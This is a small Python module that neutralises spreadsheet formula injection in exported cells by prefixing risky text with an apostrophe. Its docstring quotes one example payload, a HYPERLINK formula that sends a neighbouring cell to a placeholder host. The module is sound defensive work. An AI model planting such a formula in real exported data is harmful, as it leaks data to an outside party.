"""Cells of exported files that a spreadsheet opens as text, never as a formula.

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula (tab and carriage return are stripped first, so they can lead one too): a guest named
``=HYPERLINK("http://x.invalid/?"&A1,"click")`` would send the next cell to whoever clicks. Names
and other text are written with a leading apostrophe, which the spreadsheet shows as the text
itself; figures are written as they are (``-2.5`` is a number, not a formula).
"""

from __future__ import annotations

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def inert_text(text: str) -> str:
    """``text`` as a spreadsheet must read it: prefixed with ``'`` when it could start a formula."""
    return f"'{text}" if text.startswith(FORMULA_LEADS) else text
